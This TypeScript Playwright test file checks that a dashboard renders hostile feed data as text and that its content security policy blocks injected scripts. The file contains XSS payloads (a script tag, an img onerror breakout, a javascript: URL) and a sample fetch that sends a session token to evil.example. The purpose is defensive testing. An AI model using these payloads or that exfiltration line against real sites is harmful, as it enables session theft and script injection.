import type { Browser } from "playwright-core";
import {
  describeInBrowser,
  launchBrowser,
  openPage,
} from "../support/runtime/browser";
import {
  feed,
  feedOf,
  startDashboard,
} from "../support/servers/dashboard-server";
import { failedCall, RECOVERED } from "../support/samples/failures";

const HOSTILE = {
  "a script": `<script>document.title = "owned"</script>`,
  "an image with a handler": `"><img src=x onerror="document.title = 'owned'">`,
  "a javascript: URL": "javascript:document.title='owned'",
  "a name of every object": "__proto__",
  "right-to-left marks": "\u202Egpj.exe\u202C \u200F\u2067abc",
  "16 KiB of one word": "a".repeat(16_384),
};

describeInBrowser("the dashboard, given a hostile feed", () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchBrowser();
  });
  afterAll(() => browser.close());
  let close: () => Promise<void>;
  afterEach(() => close());

  const open = async (body: unknown) => {
    const service = await startDashboard({ status: 200, body });
    const watched = await openPage(browser, {
      viewport: { width: 375, height: 800 },
    });
    const { page } = watched;
    close = async () => {
      await page.context().close();
      await service.stop();
    };
    await page.goto(`${service.url}/dashboard.html`);
    await page.getByLabel("token").fill(service.token);
    await page.keyboard.press("Enter");
    await page.locator("#board").waitFor();
    return { ...watched, service };
  };

  it.each(Object.entries(HOSTILE))(
    "shows %s as text, in every field, within the width of a phone",
    async (_, text) => {
      const now = Date.now();
      const { incidents, failures } = feedOf([failedCall(now, 1)], now);
      const { page, errors, requests, service } = await open({
        ...feed(),
        hours: text,
        incidents: [
          fillTexts(incidents[0], text),
          fillTexts({ ...incidents[0], id: "open" }, text, ["state", "id"]),
        ],
        failures: [fillTexts(failures[0], text)],
      });
      for (const id of ["#verdict", "#open", "#closed", "#failure-list"])
        expect(await page.locator(id).textContent()).toContain(text);
      await page.locator("summary").click();
      expect(
        await page.evaluate("document.documentElement.scrollWidth"),
      ).toBeLessThanOrEqual(375);
      expect(await page.locator("main :is(script, img, iframe)").count()).toBe(
        0,
      );
      expect(await page.title()).not.toBe("owned");
      expect(await page.locator("a[href^=javascript]").count()).toBe(0);
      expect(errors).toEqual([]);
      expect(requests.every((url) => url.startsWith(service.url))).toBe(true);
    },
  );

  it("shows what it can of records that are none", async () => {
    const { page, errors } = await open({
      generatedAt: 7,
      incidents: [
        null,
        1,
        {},
        { state: "open", timeline: [{}], errorCodes: 3 },
      ],
      failures: [{}, { attempts: "none" }, { attempts: [{ ms: "x" }] }],
    });
    await page.getByText("An unknown origin is failing.").waitFor();
    expect(await page.locator("#failure-list > li").count()).toBe(3);
    expect(errors).toEqual([]);
  });

  it("runs no script and asks no host but its own, though one got into it", async () => {
    const { page, requests, service } = await open(feed());
    const refusals: (string | undefined)[] = [];
    page.on("requestfailed", (request) => {
      refusals.push(request.failure()?.errorText);
    });
    const isRefused = (attempt: string) =>
      page.evaluate<boolean>(
        `Promise.resolve().then(() => ${attempt}).then(() => false, () => true)`,
      );
    for (const attempt of [
      `document.body.insertAdjacentHTML("beforeend", "<b>x</b>")`,
      `document.createElement("script").text = "document.title = 'owned'"`,
      `fetch("https://evil.example/?" + sessionStorage["twilio-fallback-token"])`,
      `new Promise((load, fail) => document.body.append(Object.assign(new Image(), { src: "https://evil.example/x.png", onload: load, onerror: fail })))`,
    ])
      expect({ attempt, isRefused: await isRefused(attempt) }).toEqual({
        attempt,
        isRefused: true,
      });
    expect(await page.title()).not.toBe("owned");
    const elsewhere = requests.filter((url) => !url.startsWith(service.url));
    expect(refusals).toEqual(elsewhere.map(() => "csp"));
  });

  it("stays responsive with 200 incidents and 100 failures", async () => {
    const now = Date.now();
    const records = Array.from({ length: 10_000 }, (_, index) =>
      failedCall(now, (index % 1000) / 3, RECOVERED, {
        errorUrl: new URL(`https://host-${String(index % 200)}.example.com/`),
      }),
    );
    const { page, errors, service } = await open(feedOf(records, now));
    expect(await page.locator(".incident").count()).toBeGreaterThanOrEqual(200);
    expect(await page.locator("#failure-list > li").count()).toBe(100);
    await page.evaluate(
      `window.longest = 0;
       new PerformanceObserver((list) => {
         for (const { duration } of list.getEntries()) longest = Math.max(longest, duration);
       }).observe({ type: "longtask" })`,
    );
    const asked = service.asked.length;
    while (service.asked.length === asked) await page.waitForTimeout(200);
    await page.waitForTimeout(500);
    expect(await page.evaluate<number>("longest")).toBeLessThan(500);
    expect(await page.locator("canvas").count()).toBeLessThan(20);
    expect(errors).toEqual([]);
  });
});

/** A copy in which every text is the hostile one, names of codes too. */
function fillTexts(
  value: unknown,
  text: string,
  kept: readonly string[] = [],
): unknown {
  if (typeof value === "string") return text;
  if (Array.isArray(value)) return value.map((one) => fillTexts(one, text));
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, one]) => [
      /^\d+$/.test(name) ? text : name,
      kept.includes(name) ? one : fillTexts(one, text),
    ]),
  );
}
